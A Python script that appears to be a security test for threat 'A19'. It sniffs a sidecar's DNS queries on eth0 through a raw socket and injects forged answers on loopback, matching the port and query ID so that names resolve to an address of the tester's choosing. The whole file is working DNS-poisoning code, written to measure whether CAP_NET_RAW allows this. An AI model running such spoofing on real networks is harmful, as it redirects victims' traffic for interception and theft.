"""Poisoning the sidecar's resolver (CAP_NET_RAW, threat A19): sees its question leave on eth0, and forges the answer on lo,
from the resolver, with the right port and id. Prints one line: how many answers it forged."""

import json
import select
import socket
import struct
import time

import packets
from attempts import POD4, RESOLVER4, V4

IPV4 = 0x0800
SECONDS = 3


def forged(frame):
    """The frame that answers a question with an address of ours."""
    source_port = struct.unpack_from("!H", frame, 34)[0]
    question = frame[42:]
    answer = (question[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question[12:question.index(b"\0", 12) + 5]
              + struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(V4))
    packet = packets.ipv4(RESOLVER4, POD4, 17, packets.udp(source_port, answer, 53))
    return b"\0" * 12 + struct.pack("!H", IPV4) + packet


def main():
    """Answers every question for SECONDS."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # outgoing frames show only to ETH_P_ALL
    tap.bind(("eth0", 3))
    loopback = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4))
    loopback.bind(("lo", IPV4))
    print("listening", flush=True)
    count, deadline = 0, time.monotonic() + SECONDS
    while (left := deadline - time.monotonic()) > 0 and select.select([tap], [], [], left)[0]:
        frame = tap.recv(2000)
        if frame[12:14] == b"\x08\x00" and frame[23] == 17 and frame[36:38] == b"\0\x35":
            loopback.send(forged(frame))
            count += 1
    print(json.dumps({"forged": count}), flush=True)


if __name__ == "__main__":
    main()
